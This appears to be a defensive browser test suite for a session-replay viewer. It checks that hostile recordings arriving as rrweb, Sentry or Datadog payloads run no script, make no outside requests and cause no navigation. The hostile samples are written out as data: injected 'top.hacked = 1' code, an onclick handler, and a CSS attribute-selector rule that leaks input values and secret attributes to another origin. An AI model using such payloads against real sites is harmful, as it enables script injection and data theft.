import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateSync } from 'node:zlib';
import { foreignFormats, type Lifted } from '@sightglass/intake';
import type { Segment } from '@sightglass/wire';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { tools } from '../../fixtures/corpus/captured.ts';
import { hostileLine } from '../../packages/replay/src/testing/hostile-recording.ts';
import { type Browsing, startBrowsing } from '../lib/chromium.ts';
import { startStoredReplay } from '../lib/stored-replay.ts';
import { showMoments } from './show-moments.ts';

/**
 * Recordings made to break out, sent as each SDK sends, stored, and shown from the replay's own door with the canvas option of their sender
 * on: no script runs, nothing is asked for elsewhere, nobody goes anywhere. The page that shows them has no policy of its own here.
 */
let browsing: Browsing;
let elsewhere: { server: Server; origin: string };
const called: string[] = [];

beforeAll(async () => {
  browsing = await startBrowsing();
  const server = createServer(({ url = '/' }, reply) => {
    called.push(url);
    reply
      .writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
      .end('top.hacked = 1');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  elsewhere = { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }; // listening on a port
});
afterAll(async () => {
  await browsing?.stop();
  elsewhere?.server.close();
});

test.each(['own', 'rrweb', 'sentry', 'datadog'] as const)(
  'a hostile recording that came as %s runs nothing, asks nobody and goes nowhere; its harmless part is shown',
  async (sdk) => {
    const line = withPictures(elsewhere.origin);
    const segments = sent[sdk](line);
    expect(segments.length).toBeGreaterThan(0);
    const stored = await startStoredReplay(segments, session);
    const page = await browsing.context.newPage();
    const complaints: string[] = [];
    page.on('pageerror', (error) => complaints.push(error.message));
    page.on('dialog', (dialog) => complaints.push(dialog.message()));
    await page.goto(stored.origin);
    called.splice(0);
    const requests: string[] = [];
    const went: string[] = [];
    page.on('request', (request) => requests.push(new URL(request.url()).origin));
    page.on('framenavigated', (frame) => went.push(frame.url()));
    const [from, until] = [line.from, line.until];
    const seen = await showMoments(page, [from + 2, from + 25, until, from + 2, until]);
    expect(seen.at(-1)?.text).toContain('Parts on order');
    expect(seen.at(-1)?.text).toContain('Bolts');
    expect(seen.at(-1)?.text).toContain('Nuts');
    // Whatever is under way has been seen once this call has.
    const stage = page.frames().find((frame) => frame.url().startsWith('data:'));
    const pressed = await stage?.evaluate(() => {
      const inner = document.querySelector('iframe')?.contentDocument;
      const elements = [...(inner?.querySelectorAll('a, button, input, form, summary') ?? [])];
      for (const element of elements)
        element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
      return elements.length;
    });
    expect(pressed).toBeGreaterThan(0);
    await page.evaluate(async (origin) => {
      await new Promise((done) => requestAnimationFrame(() => requestIdleCallback(done, { timeout: 1_000 })));
      await fetch(`${origin}/canary`);
    }, elsewhere.origin);
    expect(called).toEqual(['/canary']);
    expect(requests.filter((origin) => origin !== stored.origin && origin !== 'null')).toEqual([elsewhere.origin]);
    // A link that was pressed by this test leads to its own document, as all are made to.
    const own = stage?.url();
    expect(went.filter((url) => !/^about:(blank|srcdoc)$/.test(url) && url !== own && url !== `${own}#`)).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(complaints).toEqual([]);
    expect(page.url()).toBe(`${stored.origin}/`);
    await page.close();
    await stored.stop();
  },
);

test('X5: a canvas of sixty gigabytes, sizes that are none and a window of millions of pixels take nothing from whoever watches, and the rest is shown', async () => {
  const [from, side] = [Date.UTC(2026, 10, 1), 122_880];
  const picture =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';
  let id = 0;
  const element = (tagName: string, attributes: object, ...childNodes: object[]) => {
    id += 1;
    return { type: 2, tagName, attributes, childNodes, id };
  };
  const words = (textContent: string) => {
    id += 1;
    return { type: 3, textContent, id };
  };
  const canvas = element('canvas', { width: `${side}`, height: `${side}`, rr_dataURL: picture });
  const odd = element('canvas', { width: '1e308', height: '-5' });
  const body = element('body', {}, element('h1', {}, words('Parts on order')), canvas, odd, words('Bolts'));
  const html = element('html', {}, element('head', {}), body);
  const bitmap = { rr_type: 'Blob', data: [{ rr_type: 'ArrayBuffer', base64: picture.slice(22) }], type: 'image/png' };
  const drawImage = { property: 'drawImage', args: [{ rr_type: 'ImageBitmap', args: [bitmap] }, 0, 0] };
  const events = [
    { type: 4, timestamp: from, data: { href: 'http://shop.example/', width: 800, height: 600 } },
    {
      type: 2,
      timestamp: from,
      data: { node: { type: 0, id: 99, childNodes: [html] }, initialOffset: { left: 0, top: 0 } },
    },
    { type: 3, timestamp: from + 10, data: { source: 9, id: canvas.id, type: 0, commands: [drawImage] } },
    {
      type: 3,
      timestamp: from + 20,
      data: {
        ...{ source: 0, texts: [], adds: [], removes: [] },
        attributes: [{ id: canvas.id, attributes: { width: `${2 * side}`, height: '1e308' } }],
      },
    },
    { type: 3, timestamp: from + 30, data: { source: 4, width: 4_000_000, height: 3_000_000 } },
  ];
  const about = { from, until: from + 40, anchor: true, tab: 'tab-00000', page: 'page-0000', seq: 0 };
  const segment: Segment = { ...about, v: 1, format: 'rrweb/2', session, sentAt: from, events };
  const stored = await startStoredReplay([segment], session);
  const page = await browsing.context.newPage();
  await page.goto(stored.origin);
  const seen = await showMoments(page, [from + 5, from + 15, from + 25, from + 40, from + 5]);
  expect(seen.map(({ text, failed }) => [text, failed])).toEqual(seen.map(() => ['Parts on orderBolts', 0]));
  // A page whose process was killed, or that still draws, has no picture of itself.
  expect((await page.screenshot()).length).toBeGreaterThan(0);
  await page.close();
  await stored.stop();
});

/** With what only recorders of canvases send: commands that load, and a readable attribute that CSS would tell. */
function withPictures(origin: string): ReturnType<typeof hostileLine> {
  const line = hostileLine(origin);
  const at = line.from + 60;
  const commands = [
    { property: 'clearRect', args: [0, 0, 1, 1] },
    { property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${origin}/canvas-image.png` }, 0, 0] },
    { property: 'constructor', args: ['top.hacked = 1'] },
    { property: 'setAttribute', args: ['onclick', 'top.hacked = 1'] },
  ];
  const css = `input[value^="a"] { background: url(${origin}/reads-a) } [data-secret$="z"]::before { content: url(${origin}/reads-z) }`;
  line.events.push(
    { type: 3, timestamp: at, data: { source: 9, id: 20, type: 0, commands } },
    {
      type: 3,
      timestamp: at,
      data: {
        source: 9,
        id: 20,
        type: 1,
        property: 'texImage2D',
        args: [{ rr_type: 'ImageBitmap', args: [{ rr_type: 'Blob', data: [], type: 'text/html' }] }],
      },
    },
    { type: 3, timestamp: at + 1, data: { source: 8, id: 20, replaceSync: css } },
    {
      type: 3,
      timestamp: at + 2,
      data: { source: 13, id: 20, index: [0], set: { property: 'background', value: `url(${origin}/declared)` } },
    },
  );
  return line;
}

const session = '7ce85128-2ea9-4d81-b28f-e916b07d8c8d';
const view = '7203d788-0e59-4750-bc39-be776ee2a422';
const replayId = 'dfc6aa5f9d76496881be46d9513c908b';

const sent: Record<'own' | 'rrweb' | 'sentry' | 'datadog', (line: ReturnType<typeof hostileLine>) => Segment[]> = {
  own: (line) => [{ ...line, v: 1, session, sentAt: line.until }],
  rrweb: ({ events, until }) =>
    lift('rrweb', Buffer.from(JSON.stringify(events)), `session=${session}`, 'application/json', until),
  sentry({ events, until }) {
    const recording = Buffer.concat([Buffer.from('{"segment_id":0}\n'), deflateSync(JSON.stringify(events))]);
    const head = JSON.stringify({ replay_id: replayId, segment_id: 0, urls: ['https://shop.example/'] });
    const start = `{"event_id":"${replayId}"}\n{"type":"replay_event"}\n${head}\n{"type":"replay_recording","length":${recording.length}}\n`;
    return lift('sentry', Buffer.concat([Buffer.from(start), recording]), '', '', until);
  },
  datadog({ events, from, until }) {
    const records = events.map((event) => (event.type === 2 ? { ...event, format: 0 } : event));
    const about = { records, session: { id: session }, view: { id: view }, index_in_view: 0, start: from, end: until };
    const part = (name: string, type: string) =>
      `--b\r\ncontent-disposition: form-data; name="${name}"; filename="${name}"\r\ncontent-type: ${type}\r\n\r\n`;
    const body = Buffer.concat([
      Buffer.from(part('segment', 'application/octet-stream')),
      deflateSync(JSON.stringify(about)),
      Buffer.from(`\r\n${part('event', 'application/json')}{}\r\n--b--\r\n`),
    ]);
    const query = `ddforward=${encodeURIComponent('/api/v2/replay?ddsource=browser&dd-api-key=pub1')}`;
    return lift('datadog', body, query, 'multipart/form-data; boundary=b', until);
  },
};

function lift(
  name: keyof typeof foreignFormats,
  body: Uint8Array,
  query: string,
  contentType: string,
  at: number,
): Segment[] {
  const path = name === 'sentry' ? '/api/1/envelope/' : `/${name}`;
  const head = { path, query, contentType, userAgent: '', origin: 'https://shop.example' };
  const lifted: Lifted | { reason: string } = foreignFormats[name].decode(
    body,
    head,
    { receivedAt: at, sample: false },
    tools,
  );
  if ('reason' in lifted) throw new Error(lifted.reason);
  return lifted.segments.map((segment) => ({ ...segment, sentAt: at }) as Segment); // what an intake lifts is stored as it is
}
